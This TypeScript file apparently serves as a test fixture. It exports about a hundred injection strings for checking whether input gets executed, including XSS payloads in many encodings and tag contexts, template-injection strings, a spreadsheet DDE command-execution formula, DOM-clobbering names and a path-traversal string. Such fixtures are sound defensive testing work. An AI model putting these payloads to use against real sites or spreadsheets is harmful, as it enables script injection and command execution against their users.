/** What a script would have to do to be noticed, see `watch`. */
const DO = 'hit=1';

const FRAMES = [
  `<script>${DO}</script>`, `"><script>${DO}</script>`, `'><script>${DO}</script>`, `</script><script>${DO}</script>`, `--><script>${DO}</script>`,
  `]]><script>${DO}</script>`, `</title><script>${DO}</script>`, `</textarea><script>${DO}</script>`, `</style><script>${DO}</script>`, `</noscript><script>${DO}</script>`,
  `<ScRiPt>${DO}</sCrIpT>`, `<script/x>${DO}</script>`, `<<script>${DO}//<</script>`, `<script src=data:text/javascript,${DO}></script>`, `<script type=module>${DO}</script>`,
  `<svg><script>${DO}</script></svg>`, `<svg onload=${DO}>`, `<svg/onload=${DO}>`, `<svg><animate onbegin=${DO} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${DO}"><text>x</text></a></svg>`,
  `<img src=x onerror=${DO}>`, `<img src=x onerror="${DO}">`, `"><img src=x onerror=${DO}>`, `'><img src=x onerror=${DO}>`, `<img/src=x/onerror=${DO}>`,
  `<image src=x onerror=${DO}>`, `<img srcset=x onerror=${DO}>`, `<input autofocus onfocus=${DO}>`, `<select autofocus onfocus=${DO}>`, `<textarea autofocus onfocus=${DO}>`,
  `<body onload=${DO}>`, `<video src=x onerror=${DO}>`, `<video><source onerror=${DO}></video>`, `<audio src=x onerror=${DO}>`, `<details open ontoggle=${DO}>`,
  `<marquee onstart=${DO}>`, `<object data="javascript:${DO}">`, `<embed src="javascript:${DO}">`, `<iframe src="javascript:${DO}">`, `<iframe srcdoc="<script>parent.${DO}</script>">`,
  `<a href="javascript:${DO}" autofocus>x</a>`, `<form action="javascript:${DO}"><button autofocus>x</button></form>`, `<math><mtext><img src=x onerror=${DO}></mtext></math>`, `<base href="https://stranger.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${DO}">`,
  `<link rel=stylesheet href="https://stranger.example/x.css">`, `<style>@import "https://stranger.example/x.css";</style>`, `<div style="background:url(https://stranger.example/x)">`, `<template><img src=x onerror=${DO}></template>`, `<dialog open onclose=${DO}>`,
];

const TEXTS = [
  `javascript:${DO}`, `" onmouseover="${DO}`, `' onmouseover='${DO}`, `" autofocus onfocus=${DO} x="`, `' autofocus onfocus=${DO} x='`,
  '{{constructor.constructor("hit=1")()}}', `\${${DO}}`, `#{${DO}}`, `<%= ${DO} %>`, `{{${DO}}}`,
  `&lt;script&gt;${DO}&lt;/script&gt;`, `&#60;script&#62;${DO}&#60;/script&#62;`, `%3Cscript%3E${DO}%3C/script%3E`, `\\u003cscript\\u003e${DO}\\u003c/script\\u003e`, `\\x3cscript\\x3e${DO}\\x3c/script\\x3e`,
  `=HYPERLINK("https://stranger.example/")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `+1+1`, `-1+1`,
  `\u202e<script>${DO}</script>`, `\u2028<script>${DO}</script>`, `\ufeff<script>${DO}</script>`, `<scr\u200bipt>${DO}</script>`, `＜script＞${DO}＜/script＞`,
  `__proto__`, `constructor`, `toString`, `../../keys`, `?name=x&state=<script>${DO}</script>`,
  `<p id=app>`, `<form id=main>`, `<img name=cookie>`, `<a id=location href=x>`, `<input name=attributes>`,
  `<x contenteditable onbeforeinput=${DO} autofocus>`, `<x onclick=${DO} tabindex=1 id=x></x>`, `<x onpointerrawupdate=${DO}>`, `<x onanimationstart=${DO} class=spinner>`, `<x ontransitionend=${DO}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${DO}</script></svg>#x"/></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${DO}</script>"/></foreignObject></svg>`, `<svg><style><img src=x onerror=${DO}></style></svg>`, `<noscript><p title="</noscript><img src=x onerror=${DO}>">`, `<xmp><p title="</xmp><img src=x onerror=${DO}>">`,
  `<!--><img src=x onerror=${DO}>-->`, `<![CDATA[<img src=x onerror=${DO}>]]>`, `<?xml version="1.0"?><script>${DO}</script>`, `<a title="&quot;><img src=x onerror=${DO}>">`, `<isindex type=image src=x onerror=${DO}>`,
];

/** A hundred names that are scripts or parts of one in some context. */
export const PAYLOADS: readonly string[] = [...FRAMES, ...TEXTS];
